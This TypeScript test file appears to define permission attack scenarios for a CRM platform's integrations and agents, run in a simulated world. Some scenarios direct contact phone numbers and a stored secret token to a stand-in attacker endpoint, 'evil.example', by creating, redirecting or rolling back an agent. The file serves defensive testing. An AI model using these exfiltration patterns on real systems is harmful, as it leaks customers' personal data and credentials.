import { HistoryImporter } from '../../../packages/tenant/src/services/bulk/history.ts'
import { connect } from '../../../packages/tenant/src/services/integrations/verbs.ts'
import { putSecret } from '../../../packages/tenant/src/services/secrets.ts'
import type { Attack } from './attack.ts'
import { GOOD, type Grant, OPERATOR, SECRET, TAKEN } from './world.ts'

/** A page of HubSpot's contacts, as the connector reads it. */
const PAGE = JSON.stringify({
  results: [
    {
      id: '1',
      createdAt: '2020-01-01T00:00:00Z',
      updatedAt: '2999-01-01T00:00:00Z',
      properties: { firstname: TAKEN },
      propertiesWithHistory: { firstname: [{ value: TAKEN, timestamp: '2020-01-01T00:00:00Z' }] },
    },
  ],
})

const CHANGED = 'connected by an administrator, then changed'
const SCHEDULED = 'connected by an administrator, then scheduled'
const BROUGHT_BACK = 'a schedule of an administrator, brought back'

const integrations: readonly Attack[] = [
  {
    kind: 'integration',
    name: 'records that overwrite a type of others',
    goal: 'write Contact',
    ways: ['connected', CHANGED, 'started', SCHEDULED, BROUGHT_BACK],
    async run(world, author, way) {
      const { tenant, hidden } = world
      world.answers.text = PAGE
      const value = { type: 'Contact', id: hidden, source: 'hubspot:contacts:1', verb: 'update' }
      const timestamp = new Date(tenant.engine.nextTime()).toISOString()
      const rows = [{ row: 0, size: 1, value: { ...value, timestamp, data: {} } }]
      tenant.write(OPERATOR, (write) => new HistoryImporter().take(write, rows))
      const contacts = { contacts: { type: 'Contact', fields: { firstname: 'name' } } }
      const deals = { deals: { type: 'Deal', fields: { firstname: 'name' } } }
      const mapping = way === CHANGED ? deals : contacts
      const { $id: id } = world.run('Integration', 'create', undefined, { name: 'x', provider: 'hubspot', mapping })
      const checked = { token: 'token', address: 'https://api.hubapi.com' }
      const link = (grant: Grant) => tenant.write(grant, (write) => connect(write, id, {}, checked))
      if (way === 'connected') world.attempt(() => link(author))
      else link(OPERATOR)
      const update = (data: object, grant: Grant) => world.run('Integration', 'update', id, { ...data }, grant)
      const schedule = '* * * * * *'
      if (way === CHANGED) world.attempt(() => update({ mapping: contacts }, author))
      if (way === SCHEDULED) world.attempt(() => update({ schedule }, author))
      else if (way === BROUGHT_BACK) {
        // Two changes in one moment: no run comes between them.
        update({ schedule }, OPERATOR)
        const asOf = String(tenant.head.seq)
        update({ schedule: null }, OPERATOR)
        world.attempt(() => world.run('Integration', 'rollback', id, { asOf }, author))
      } else world.attempt(() => world.run('Integration', 'sync', id, {}, author))
      await world.advance(2_000)
    },
  },
]

const EVIL = 'https://evil.example/ask'

const agents: readonly Attack[] = [
  {
    kind: 'agent',
    name: 'a question that carries a hidden value to an endpoint',
    goal: 'read Contact',
    ways: ['created', 'redirected'],
    async run(world, author, way) {
      const { run } = world
      const agent =
        way === 'created'
          ? world.attempt(() => run('Agent', 'create', undefined, { name: 'a', endpoint: EVIL }, author))
          : run('Agent', 'create', undefined, { name: 'a', endpoint: 'https://agent.example/ask' })
      if (agent === null) return
      if (way === 'redirected') world.attempt(() => run('Agent', 'update', agent.$id, { endpoint: EVIL }, author))
      const args = { message: '$event.data.phone' }
      const steps = [{ verb: 'ask', type: 'Agent', id: agent.$id, args }]
      const workflow = { name: 'w', triggerEvent: 'Contact.updated', steps }
      const made = world.attempt(() => run('Workflow', 'create', undefined, workflow, author))
      if (made !== null) world.attempt(() => run('Workflow', 'activate', made.$id, {}, author))
    },
  },
  {
    kind: 'agent',
    name: 'a secret in the headers of an endpoint',
    goal: 'read Secret',
    ways: ['created', 'redirected', 'brought back'],
    async run(world, author, way) {
      const { run, tenant } = world
      tenant.write(OPERATOR, (write) => putSecret(write, 'TOKEN', SECRET))
      const headers = { 'x-key': '$secrets.TOKEN' }
      const create = (endpoint: string, grant: Grant) =>
        run('Agent', 'create', undefined, { name: 'a', endpoint, headers }, grant)
      const agent =
        way === 'created'
          ? world.attempt(() => create(EVIL, author))
          : create(way === 'redirected' ? GOOD : EVIL, OPERATOR)
      if (agent === null) return
      if (way === 'redirected') world.attempt(() => run('Agent', 'update', agent.$id, { endpoint: EVIL }, author))
      if (way === 'brought back') {
        const asOf = String(tenant.head.seq)
        run('Agent', 'update', agent.$id, { endpoint: GOOD })
        world.attempt(() => run('Agent', 'rollback', agent.$id, { asOf }, author))
      }
      run('Agent', 'ask', agent.$id, { message: 'Hello' })
      await world.advance(1_000)
    },
  },
]

export const CONNECTED: readonly Attack[] = [...integrations, ...agents]
